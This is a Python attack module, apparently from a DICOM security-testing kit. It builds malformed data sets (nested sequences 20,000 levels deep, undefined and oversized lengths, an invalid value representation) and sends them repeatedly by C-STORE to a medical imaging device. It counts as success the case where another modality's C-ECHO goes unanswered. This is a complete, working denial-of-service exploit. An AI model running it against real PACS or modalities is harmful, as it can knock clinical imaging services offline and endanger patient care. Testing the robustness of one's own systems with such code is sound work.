"""Data sets made to break a parser: nested without end, lengths beyond the end, sent as C-STORE."""

from __future__ import annotations

from .dicom import CR_STORAGE, EXPLICIT_LE, File, echo_works, element, open_association
from .kit import Brief, GaveUp, NotArmed, Result, run

_DEPTH = 20_000
_ROUNDS = 6
_ITEM = b"\xfe\xff\x00\xe0\xff\xff\xff\xff"
_SEQUENCE = b"\x08\x00\x40\x11SQ\x00\x00\xff\xff\xff\xff"


def hostile(uid: str) -> list[bytes]:
    """The data sets."""
    head = element(0x0008, 0x0016, b"UI", CR_STORAGE.encode()) + element(0x0008, 0x0018, b"UI", uid.encode())
    return [
        head + (_SEQUENCE + _ITEM) * _DEPTH,
        head + b"\x10\x00\x10\x00PN\xff\xff" + b"A" * 16,
        head + b"\xe0\x7f\x10\x00OW\x00\x00\xfe\xff\xff\xff" + bytes(64),
        head + b"\xe0\x7f\x10\x00OB\x00\x00\xff\xff\xff\xff" + b"\xfe\xff\x00\xe0\xff\xff\xff\x7f" + bytes(8),
        head + b"\x10\x00\x10\x00ZZ\xff\x7fAA",
        bytes(4096),
    ]


def attack(brief: Brief) -> Result:
    """Succeeds when another modality's C-ECHO is no longer answered."""
    if not echo_works(brief, brief["innocent"]):
        raise NotArmed("the other modality got no answer even before")
    statuses: list[str] = []
    try:
        for turn in range(_ROUNDS):
            for place, data in enumerate(hostile(f"2.25.99{turn}")):
                statuses.append(_send(brief, f"2.25.99{turn}{place}", data))
    except TimeoutError:
        statuses.append("no answer")
    works = echo_works(brief, brief["innocent"])
    kinds = ", ".join(f"{kind} x{statuses.count(kind)}" for kind in sorted(set(statuses)))
    state = "works" if works else "is cut off"
    return Result(not works, f"{len(statuses)} hostile data sets: {kinds}; the other modality {state}")


def _send(brief: Brief, uid: str, data: bytes) -> str:
    """The status, or that the association ended. Raises TimeoutError."""
    device = brief["device"]
    try:
        association = open_association(brief, device["ae"], [(CR_STORAGE, EXPLICIT_LE)], device)
        status = association.store(File(CR_STORAGE, uid, EXPLICIT_LE, data))
        association.release()
    except TimeoutError:
        raise
    except (OSError, GaveUp):
        return "ended"
    return f"{status:04X}"


if __name__ == "__main__":
    run(attack)
